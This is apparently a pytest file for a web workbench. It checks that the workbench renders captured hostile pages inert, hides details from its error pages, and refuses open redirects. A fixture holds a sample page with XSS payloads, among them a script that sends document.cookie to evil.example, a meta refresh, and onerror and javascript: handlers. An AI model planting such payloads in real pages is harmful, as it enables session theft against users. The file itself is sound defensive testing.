# ruff: noqa: F811  (pytest fixtures are imported from web_fixtures and named as arguments)
"""The workbench's pages as a browser gets them: friendly errors that leak nothing, a
report's original capture made inert with its evidence marked, review through the forms,
no inline script or style anywhere, and ``corroborate serve --help``."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from starlette.requests import Request
from starlette.routing import Route

from corroborate import Store, ingest
from corroborate.cli import main
from corroborate.users import add_user
from corroborate.web import create_app

from .web_fixtures import (  # noqa: F401  (fixtures)
    MUSAN,
    PASSWORD,
    SECURITY,
    analyst,
    client,
    client_of,
    collection,
    csrf_of,
    report_id,
    review_log,
    sign_in,
    template,
    viewer,
)

# an article written for this test, wrapped in everything a hostile page could carry
HOSTILE = """<!doctype html><html><head><title>Guards detain traders in Hyesan</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body{background:url(https://evil.example/bg.png)}</style>
<script>fetch("https://evil.example/steal?"+document.cookie)</script>
<script src="https://evil.example/x.js"></script>
</head><body onload="alert('body')"><article>
<h1>Guards detain traders in Hyesan</h1>
<p>Published 2019-04-02</p>
<p onclick="alert('p')">Agents of the Ministry of State Security detained four traders in
Hyesan, Ryanggang province, on 28 March 2019 for selling Chinese mobile phones, a resident
told this site.</p>
<img src="https://evil.example/pixel.gif" onerror="alert('img')">
<iframe src="https://evil.example/frame" srcdoc="<script>alert('frame')</script>"></iframe>
<p>The traders were questioned for several days, the resident said.
<a href="https://evil.example/more" style="color:red">Read more</a></p>
<svg onload="alert('svg')"><script>alert('svg script')</script>
<a xlink:href="javascript:alert('x')">x</a></svg>
<form action="https://evil.example/post"><input name="q"><button>Go</button></form>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<p>Residents said the arrests had left the market quiet for a week.</p>
</article></body></html>"""


class Tags(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.script_text.append(data)


def tags_of(html: str) -> Tags:
    parser = Tags()
    parser.feed(html)
    return parser


def assert_inert(html: str) -> None:
    """Nothing that runs, styles inline, or reaches another host."""
    found = tags_of(html)
    assert found.script_text == []
    for tag, attrs in found.tags:
        assert tag not in ("style", "img", "iframe", "object", "embed", "base", "frame"), tag
        if tag == "script":
            assert attrs == {"src": "/static/app.js", "defer": None}
        if tag == "link":
            assert attrs.get("href", "").startswith(("/static/", "data:")), attrs
        if tag == "meta":
            assert "http-equiv" not in attrs or attrs["http-equiv"] != "refresh" or \
                "url" not in (attrs.get("content") or "").lower()
        for name, value in attrs.items():
            assert not name.startswith("on") and name != "style" and name != "srcdoc", (tag,
                                                                                         name)
            assert "evil.example" not in (value or "") and "javascript:" not in (value or "")


# -- errors ---------------------------------------------------------------------------------

def test_a_missing_page_is_a_friendly_404(analyst):
    page = analyst.get("/reports/r-00000000000000000000")
    assert page.status_code == 404 and page.headers["content-type"].startswith("text/html")
    assert "no such report" in page.text and "Back to the events" in page.text
    other = analyst.get("/no/such/page")
    assert other.status_code == 404 and "There is nothing at this address." in other.text


def test_a_merged_story_s_old_address_leads_to_the_story_it_joined(collection, analyst):
    from corroborate.store import Store

    with Store.open(collection) as store, store.transaction() as db:
        live = db.execute("SELECT id FROM stories ORDER BY id").fetchone()[0]
        db.execute("INSERT INTO story_aliases VALUES ('s-00000000000000000001', ?)", (live,))
    page = analyst.get("/stories/s-00000000000000000001", follow_redirects=False)
    assert page.status_code == 301 and page.headers["location"] == f"/stories/{live}"
    assert analyst.get("/stories/s-00000000000000000002").status_code == 404


def _failing(collection: Path) -> Any:
    def boom(request: Request) -> Any:
        raise RuntimeError(f"database at {collection}/corroborate.sqlite said: secret words")

    app = create_app(collection)
    app.router.routes += [Route("/boom", boom), Route("/api/boom", boom)]
    return app


@pytest.mark.parametrize("path", ["/boom", "/api/boom"])
def test_a_server_error_says_sorry_and_leaks_nothing(collection, path):
    browser = client_of(_failing(collection))
    assert sign_in(browser, "ana").status_code == 303
    response = browser.get(path)
    assert response.status_code == 500
    for leak in ("Traceback", "RuntimeError", "secret words", str(collection), ".py",
                 "corroborate.sqlite", 'File "'):
        assert leak not in response.text
    assert "has been logged" in response.text
    if path.startswith("/api"):
        assert response.json()["error"]["code"] == "internal"
    for name, value in SECURITY.items():  # the error answer is as guarded as any other
        assert response.headers[name] == value
    assert "no-store" in response.headers["cache-control"]
    assert "unsafe-inline" not in response.headers["content-security-policy"]


def test_a_lost_capture_is_told_without_naming_server_files(collection, analyst):
    report = report_id(collection, "hyesan-public-trial.html")
    with Store.open(collection) as store:
        archived = store.archive.path(store.report(report).capture_sha256)
    archived.chmod(0o600)
    archived.unlink()
    page = analyst.get(f"/reports/{report}")
    assert page.status_code == 200 and "cannot be read" in page.text
    assert str(collection) not in page.text and "Errno" not in page.text
    assert "Hyesan" in page.text  # the rest of the report is still shown


def test_a_bad_query_is_told_on_a_page(analyst):
    page = analyst.get("/events", params={"page": "many"})
    assert page.status_code == 400 and "page must be a whole number" in page.text


# -- the report page ------------------------------------------------------------------------

@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Any, str]:
    source = tmp_path / "hostile.html"
    source.write_text(HOSTILE, encoding="utf-8")
    store = Store.init(tmp_path / "hostile-collection")
    try:
        assert ingest(store, [str(source)]).reports == 1
        add_user(store, "ana", "analyst", PASSWORD)
        found = store.db.execute("SELECT id FROM reports").fetchone()[0]
    finally:
        store.close()
    browser = client_of(create_app(tmp_path / "hostile-collection"))
    assert sign_in(browser, "ana").status_code == 303
    return browser, found


def test_the_original_capture_is_shown_inert(hostile):
    browser, found = hostile
    page = browser.get(f"/reports/{found}")
    assert page.status_code == 200
    original = page.text.split('class="original"', 1)[1].split("</section>", 1)[0]
    assert "Ministry of State Security detained four traders" in original
    assert "market quiet for a week" in original
    assert "evil.example" not in original and "alert(" not in original
    assert "document.cookie" not in page.text and "alert(" not in page.text
    assert_inert(page.text)


def test_the_report_text_marks_the_evidence_of_each_value(hostile):
    browser, found = hostile
    page = browser.get(f"/reports/{found}").text
    marks = re.findall(r'<mark class="(ev-[a-z_ ]+?)"[^>]*>([^<]+)</mark>', page)
    kinds = {k for classes, _ in marks for k in classes.split()}
    assert {"ev-perpetrator", "ev-place", "ev-date"} <= kinds
    assert ("ev-perpetrator", "Ministry of State Security") in marks
    facts = browser.get(f"/api/reports/{found}").json()["incidents"][0]["facts"]
    quoted = [f["evidence"]["quote"] for f in facts]
    assert all(any(text in quote for quote in quoted) for _, text in marks)


@pytest.mark.parametrize("path", ["/login", "/events", "/stories", "/export", "/ingest",
                                  "/reports/{musan}", "/events/{event}", "/search?q=Hyesan",
                                  "/review", "/timeline", "/map", "/vocabulary"])
def test_pages_hold_no_inline_script_style_or_handler(collection, analyst, path):
    event = analyst.get("/api/events").json()["events"][0]["id"]
    page = analyst.get(path.format(musan=report_id(collection, MUSAN), event=event))
    assert page.status_code == 200
    assert_inert(page.text)


def test_search_shows_markup_in_a_report_as_text(tmp_path, collection, analyst):
    source = tmp_path / "graffiti.txt"
    source.write_text("date 2019-05-02\nGraffiti <b onmouseover=alert(1)>found</b> in Musan\n\n"
                      "Border guards in Musan detained two traders who had written "
                      "<img src=x onerror=alert(2)> on a warehouse wall, a source said.\n",
                      encoding="utf-8")
    with Store.open(collection) as store:
        assert ingest(store, [str(source)]).reports == 1
    page = analyst.get("/search", params={"q": "warehouse"})
    assert page.status_code == 200 and "warehouse" in page.text
    assert "&lt;img src=x onerror=alert(2)&gt;" in page.text or "onerror" not in page.text
    assert_inert(page.text)
    found = analyst.get("/api/search", params={"q": "warehouse"}).json()["hits"]
    assert len(found) == 1
    assert_inert(analyst.get(f"/reports/{found[0]['report_id']}").text)


# -- review through the forms ---------------------------------------------------------------

def _decide(browser: Any, report: str, field: str, action: str, revision: int,
            value: str = "") -> Any:
    return browser.post(f"/reports/{report}/review/{field}", data={
        "csrf": csrf_of(browser), "action": action, "value": value,
        "revision": str(revision), "next": f"/reports/{report}"})


def _shown(browser: Any, report: str, field: str) -> dict[str, Any]:
    rows = browser.get(f"/api/reports/{report}").json()["review"]
    row: dict[str, Any] = next(r for r in rows if r["field"] == field)
    return row


def test_accept_then_edit_through_the_form(collection, analyst):
    report = report_id(collection, MUSAN)
    machine = _shown(analyst, report, "region")["machine"]
    accepted = _decide(analyst, report, "region", "accept", 0)
    assert accepted.status_code == 303
    assert accepted.headers["location"] == (f"/reports/{report}?decided=region"
                                            f"#review-{report}")
    assert "Decision on region recorded" in analyst.get(accepted.headers["location"]).text
    edited = _decide(analyst, report, "region", "edit", 1, "Ryanggang")
    assert edited.status_code == 303
    row = _shown(analyst, report, "region")
    assert row["machine"] == machine and row["revision"] == 2
    assert row["shown"] == {"value": "KP-10", "label": "Ryanggang"} != machine
    page = analyst.get(f"/reports/{report}").text
    assert "Review history" in page and page.count("<td>ana</td>") == 2


def test_a_stale_form_gets_the_conflict_page_and_changes_nothing(collection, analyst):
    report = report_id(collection, MUSAN)
    assert _decide(analyst, report, "country", "edit", 0, "China").status_code == 303
    late = _decide(analyst, report, "country", "reject", 0)
    assert late.status_code == 409
    assert "Someone decided first" in late.text and "China" in late.text
    assert "Your decision was not recorded" in late.text
    assert [r[3] for r in review_log(collection)] == ["edit"]
    assert _shown(analyst, report, "country")["shown"]["value"] == "CN"


def test_an_unknown_name_is_refused_with_how_to_teach_it(collection, analyst):
    report = report_id(collection, MUSAN)
    refused = _decide(analyst, report, "region", "edit", 0, "Province of Nowhere")
    assert refused.status_code == 400
    assert "Province of Nowhere" in refused.text and "alias" in refused.text
    assert review_log(collection) == []


def test_a_decision_form_never_sends_the_browser_away(collection, analyst):
    report = report_id(collection, MUSAN)
    response = analyst.post(f"/reports/{report}/review/when", data={
        "csrf": csrf_of(analyst), "action": "accept", "revision": "0",
        "next": "//evil.example/"})
    assert response.status_code == 303
    assert response.headers["location"].startswith("/events?decided=when")


# -- the command ------------------------------------------------------------------------------

def test_serve_is_documented_with_an_example():
    result = CliRunner().invoke(main, ["serve", "--help"])
    assert result.exit_code == 0
    assert "Example:" in result.output and "corroborate serve -c" in result.output
    for option in ("--host", "--port", "--secure-cookies", "--max-upload-mb"):
        assert option in result.output


def test_serve_refuses_a_folder_that_is_no_collection(tmp_path):
    result = CliRunner().invoke(main, ["serve", "-c", str(tmp_path), "--port", "0"])
    assert result.exit_code != 0 and "Traceback" not in result.output
